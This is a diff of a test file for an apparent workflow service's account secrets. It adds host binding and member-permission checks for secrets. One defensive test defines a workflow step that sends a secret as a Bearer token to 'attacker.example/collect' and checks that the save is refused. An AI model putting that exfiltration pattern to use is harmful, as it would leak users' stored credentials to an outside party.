@@ -1,6 +1,8 @@
 import { randomBytes } from 'node:crypto';
-import { GetCommand } from '@aws-sdk/lib-dynamodb';
+import { GetCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
 import { describe, expect, it } from 'vitest';
+import { handler as createWorkflowHandler } from '../../functions/http/workflows/create.ts';
+import { handler as updateWorkflowHandler } from '../../functions/http/workflows/update.ts';
 import { handler as createHandler } from '../../functions/http/secrets/create.ts';
 import { handler as deleteHandler } from '../../functions/http/secrets/delete.ts';
 import { handler as listHandler } from '../../functions/http/secrets/list.ts';
@@ -8,7 +10,7 @@ import { handler as updateHandler } from '../../functions/http/secrets/update.ts
 import { db, tableName } from '../../shared/clients.ts';
 import { clearSecretCache, readSecrets } from '../../shared/domain/account-secrets.ts';
 import { givenAccount } from '../support/fixtures.ts';
-import { apiEvent, bearer, invoke } from '../support/http.ts';
+import { apiEvent, bearer, expectProblem, invoke } from '../support/http.ts';
 import { capturedLogs } from '../support/logs.ts';
 import { sessionOf } from '../support/sessions.ts';
 
@@ -39,7 +41,14 @@ describe('account secrets: console routes', () => {
     const created = await create(adminSession, { name: 'API_TOKEN', value: first });
     expect(created.status).toBe(201);
     expect(created.headers.location).toBe('/api/secrets/API_TOKEN');
-    expect(created.json).toEqual({ name: 'API_TOKEN', createdAt: expect.any(Number), updatedAt: created.json.createdAt, lastUsedAt: null });
+    expect(created.json).toEqual({
+      name: 'API_TOKEN',
+      createdAt: expect.any(Number),
+      updatedAt: created.json.createdAt,
+      lastUsedAt: null,
+      allowedHosts: null,
+      members: 'none',
+    });
     expect(created.body).not.toContain(first);
 
     const item = await rawItem(account.accountId, 'API_TOKEN');
@@ -55,8 +64,22 @@ describe('account secrets: console routes', () => {
     expect(listed.status).toBe(200);
     expect(listed.json).toEqual({
       items: [
-        { name: 'API_TOKEN', createdAt: expect.any(Number), updatedAt: expect.any(Number), lastUsedAt: null },
-        { name: 'B_SECOND', createdAt: expect.any(Number), updatedAt: expect.any(Number), lastUsedAt: null },
+        {
+          name: 'API_TOKEN',
+          createdAt: expect.any(Number),
+          updatedAt: expect.any(Number),
+          lastUsedAt: null,
+          allowedHosts: null,
+          members: 'none',
+        },
+        {
+          name: 'B_SECOND',
+          createdAt: expect.any(Number),
+          updatedAt: expect.any(Number),
+          lastUsedAt: null,
+          allowedHosts: null,
+          members: 'none',
+        },
       ],
       nextCursor: null,
     });
@@ -187,5 +210,102 @@ describe('account secrets: console routes', () => {
     expect(out).toContain('"message":"request"');
     expect(out).not.toContain(v1);
     expect(out).not.toContain(v2);
+  });
+});
+
+const saveWorkflow = (session: string, definition: unknown, editors: string[] = []) =>
+  invoke(
+    createWorkflowHandler,
+    apiEvent({ method: 'POST', path: '/api/workflows', headers: bearer(session), body: { name: 'uses secrets', definition, editors } }),
+  );
+const callWith = (secret: string, url = 'https://api.crm.example/deals') => ({
+  steps: [{ id: 'call', type: 'http_request', url, headers: { authorization: `{% 'Bearer ' & $secrets.${secret} %}` } }],
+});
+
+describe('account secrets: where they may go and who may use them', () => {
+  it('sets allowedHosts and members on create and PUT, shows them, and keeps what a PUT leaves out', async () => {
+    const { adminSession, memberSession } = await givenAdmins();
+    const created = await create(adminSession, {
+      name: 'CRM',
+      value: value('crm'),
+      allowedHosts: ['API.crm.example.', '*.crm.example'],
+      members: 'use',
+    });
+    expect(created.status, created.body).toBe(201);
+    expect(created.json).toMatchObject({ allowedHosts: ['api.crm.example', '*.crm.example'], members: 'use' });
+    const valueOnly = await update(adminSession, 'CRM', { value: value('again') });
+    expect(valueOnly.json).toMatchObject({ allowedHosts: ['api.crm.example', '*.crm.example'], members: 'use' });
+    const unbound = await update(adminSession, 'CRM', { allowedHosts: null, members: 'none' });
+    expect(unbound.status, unbound.body).toBe(200);
+    expect(unbound.json).toMatchObject({ allowedHosts: null, members: 'none' });
+    expect((await list(memberSession)).json.items[0]).toMatchObject({ name: 'CRM', allowedHosts: null, members: 'none' });
+    for (const bad of [
+      { name: 'X1', value: 'v', allowedHosts: [] },
+      { name: 'X2', value: 'v', allowedHosts: ['https://api.example'] },
+      { name: 'X3', value: 'v', allowedHosts: ['a.*.example'] },
+      { name: 'X4', value: 'v', members: 'some' },
+    ])
+      expectProblem(await create(adminSession, bad), 400, 'VALIDATION_FAILED');
+    expectProblem(await update(adminSession, 'CRM', {}), 400, 'VALIDATION_FAILED');
+    expectProblem(await update(adminSession, 'CRM', { allowedHosts: ['ok.example'], members: 'all' }), 400, 'VALIDATION_FAILED');
+    expect((await list(adminSession)).json.items.map((s: { name: string }) => s.name)).toEqual(['CRM']);
+  });
+
+  it('refuses at save a literal URL to a host the secret is not bound to (400 with the path), and accepts its own hosts', async () => {
+    const { adminSession } = await givenAdmins();
+    await create(adminSession, { name: 'CRM', value: value('crm'), allowedHosts: ['api.crm.example', '*.hooks.example'] });
+    const refused = await saveWorkflow(adminSession, callWith('CRM', 'https://attacker.example/collect'));
+    expectProblem(refused, 400, 'SECRET_NOT_ALLOWED');
+    expect(refused.json.errors).toEqual([{ path: 'definition.steps.0.url', message: expect.stringContaining('attacker.example') }]);
+    // The wildcard is for subdomains only.
+    expectProblem(await saveWorkflow(adminSession, callWith('CRM', 'https://hooks.example/x')), 400, 'SECRET_NOT_ALLOWED');
+    expect((await saveWorkflow(adminSession, callWith('CRM'))).status).toBe(201);
+    expect((await saveWorkflow(adminSession, callWith('CRM', 'https://a.b.hooks.example/x'))).status).toBe(201);
+  });
+
+  it('lets a member save a definition that references a secret only where the secret says members: use (403 otherwise); admins always', async () => {
+    const { account, member, adminSession, memberSession } = await givenAdmins();
+    await create(adminSession, { name: 'ADMIN_ONLY', value: value('a') });
+    await create(adminSession, { name: 'SHARED', value: value('s'), members: 'use' });
+    const refused = await saveWorkflow(memberSession, callWith('ADMIN_ONLY'));
+    expectProblem(refused, 403, 'SECRET_NOT_ALLOWED');
+    expect(refused.json.detail).toContain('ADMIN_ONLY');
+    // In a notification's signing secret too.
+    const notified = await saveWorkflow(memberSession, {
+      steps: [{ id: 's', type: 'set', values: { a: 1 } }],
+      notifications: [{ url: 'https://hooks.example/a', events: ['execution.failed'], secret: '{% $secrets.ADMIN_ONLY %}' }],
+    });
+    expectProblem(notified, 403, 'SECRET_NOT_ALLOWED');
+    expect((await saveWorkflow(memberSession, callWith('SHARED'))).status).toBe(201);
+    const mine = await saveWorkflow(adminSession, callWith('ADMIN_ONLY'), [member.userId]);
+    expect(mine.status).toBe(201);
+    // A member editing the admin's definition cannot save it while it uses the admin-only secret.
+    const edit = await invoke(
+      updateWorkflowHandler,
+      apiEvent({
+        method: 'PUT',
+        path: `/api/workflows/${mine.json.id}`,
+        params: { id: mine.json.id },
+        headers: bearer(memberSession),
+        body: { definition: callWith('ADMIN_ONLY', 'https://api.crm.example/other') },
+      }),
+    );
+    expectProblem(edit, 403, 'SECRET_NOT_ALLOWED');
+
+    // A secret stored before the fields existed acts as members: use, with no host binding.
+    await create(adminSession, { name: 'LEGACY', value: value('l') });
+    await db().send(
+      new UpdateCommand({
+        TableName: tableName(),
+        Key: { PK: `SECRET#${account.accountId}`, SK: 'SECRET#LEGACY' },
+        UpdateExpression: 'REMOVE #m, allowedHosts',
+        ExpressionAttributeNames: { '#m': 'members' },
+      }),
+    );
+    expect((await list(adminSession)).json.items.find((s: { name: string }) => s.name === 'LEGACY')).toMatchObject({
+      members: 'use',
+      allowedHosts: null,
+    });
+    expect((await saveWorkflow(memberSession, callWith('LEGACY', 'https://anywhere.example/x'))).status).toBe(201);
   });
 });
